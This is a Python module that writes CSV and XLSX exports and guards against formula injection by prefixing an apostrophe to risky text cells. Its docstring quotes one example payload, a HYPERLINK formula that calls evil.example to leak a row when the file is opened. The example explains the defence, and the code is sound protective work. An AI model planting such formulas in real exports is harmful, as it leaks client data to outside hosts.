"""The one way the app writes CSV and XLSX files: every text cell is made inert.

A spreadsheet program runs a cell that starts with ``=``, ``+``, ``-`` or ``@``
as a formula (tab and carriage return can hide such a start), so a client named
``=HYPERLINK("http://evil.example/?"&C2,"Open")`` would become a live link that
sends the row to another site when a biller opens the export (issue 13,
attack 5). Following OWASP's CSV-injection rule, such a text cell gets a
leading apostrophe: spreadsheets show it as text, and a person reading the file
still sees what was typed. Numbers, dates and decimals are left as they are.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterable, Sequence
from decimal import Decimal
from xml.sax.saxutils import escape as xml_escape

# OWASP: "=", "+", "-", "@", tab (0x09) and carriage return (0x0D).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """The value with a leading apostrophe if it is text a spreadsheet would run."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_bytes(columns: Sequence[str], rows: Iterable[Sequence]) -> bytes:
    """UTF-8 CSV (CRLF line ends) with a header row; every cell made inert."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([safe_cell(c) for c in columns])
    writer.writerows([safe_cell(v) for v in row] for row in rows)
    return buffer.getvalue().encode("utf-8")


def xlsx_bytes(sheets: Iterable[tuple[str, Sequence[str], Iterable[Sequence]]]) -> bytes:
    """A workbook of (title, columns, rows) sheets; text is never a formula.

    Written here as SpreadsheetML, streamed row by row into the zip, because
    openpyxl (even write-only) spent 25 s on a month of the whole practice, 16
    times what PostgreSQL needs to COPY the same rows (issue 18). Every text
    cell is an inline string (``t="inlineStr"``): the format has no way to make
    one a formula, and it is made inert with ``safe_cell`` as well, so a person
    sees the same text as in the CSV.
    """
    sheets = list(sheets)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as book:
        book.writestr("[Content_Types].xml", _content_types(len(sheets)))
        book.writestr("_rels/.rels", _ROOT_RELS)
        book.writestr("xl/workbook.xml", _workbook([title for title, _c, _r in sheets]))
        book.writestr("xl/_rels/workbook.xml.rels", _workbook_rels(len(sheets)))
        book.writestr("xl/styles.xml", _STYLES)
        for number, (_title, columns, rows) in enumerate(sheets, start=1):
            with book.open(f"xl/worksheets/sheet{number}.xml", "w") as sheet:
                sheet.write(_SHEET_HEAD)
                chunk = [_row(1, columns)]
                for index, row in enumerate(rows, start=2):
                    chunk.append(_row(index, row))
                    if len(chunk) >= 1000:
                        sheet.write("".join(chunk).encode("utf-8"))
                        chunk.clear()
                sheet.write("".join(chunk).encode("utf-8"))
                sheet.write(_SHEET_TAIL)
    return buffer.getvalue()


# Characters XML 1.0 cannot carry at all (they are dropped from cells).
_NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
# A parser turns a raw carriage return into a line feed: written as a reference it stays.
_XML_CR = {"\r": "&#13;"}
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
_DOC_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_SHEET_HEAD = (
    f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="{_MAIN}">'
    '<sheetViews><sheetView workbookViewId="0"><pane ySplit="1" topLeftCell="A2" '
    'activePane="bottomLeft" state="frozen"/></sheetView></sheetViews><sheetData>'
).encode()
_SHEET_TAIL = b"</sheetData></worksheet>"
_ROOT_RELS = (
    f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="{_PKG_REL}">'
    f'<Relationship Id="rId1" Type="{_DOC_TYPE}/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)
_STYLES = (
    f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<styleSheet xmlns="{_MAIN}">'
    '<fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts>'
    '<fills count="2"><fill><patternFill patternType="none"/></fill>'
    '<fill><patternFill patternType="gray125"/></fill></fills>'
    '<borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders>'
    '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
    '<cellXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/></cellXfs>'
    '<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles>'
    "</styleSheet>"
)


def _column(index: int) -> str:
    letters = ""
    while index:
        index, rest = divmod(index - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


_COLUMNS = [_column(i) for i in range(1, 703)]


def _row(number: int, values: Sequence) -> str:
    cells = []
    for column, value in zip(_COLUMNS, values, strict=False):
        if value is None or value == "":
            continue
        ref = f"{column}{number}"
        if isinstance(value, bool):
            cells.append(f'<c r="{ref}" t="b"><v>{int(value)}</v></c>')
        elif isinstance(value, int | float | Decimal):
            cells.append(f'<c r="{ref}"><v>{value}</v></c>')
        else:
            text = xml_escape(_NOT_XML.sub("", str(safe_cell(value))), _XML_CR)
            cells.append(
                f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{text}</t></is></c>'
            )
    return f'<row r="{number}">{"".join(cells)}</row>'


def _content_types(count: int) -> str:
    sheets = "".join(
        f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        for i in range(1, count + 1)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/'
        'vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/styles.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>'
        f"{sheets}</Types>"
    )


def _workbook(titles: list[str]) -> str:
    sheets = "".join(
        f'<sheet name="{xml_escape(title[:31], {chr(34): "&quot;"})}" sheetId="{i}" r:id="rId{i}"/>'
        for i, title in enumerate(titles, start=1)
    )
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<workbook xmlns="{_MAIN}" xmlns:r="{_REL}"><sheets>{sheets}</sheets></workbook>'
    )


def _workbook_rels(count: int) -> str:
    rels = "".join(
        f'<Relationship Id="rId{i}" Type="{_DOC_TYPE}/worksheet" Target="worksheets/sheet{i}.xml"/>'
        for i in range(1, count + 1)
    )
    styles = f'<Relationship Id="rId{count + 1}" Type="{_DOC_TYPE}/styles" Target="styles.xml"/>'
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<Relationships xmlns="{_PKG_REL}">{rels}{styles}</Relationships>'
    )
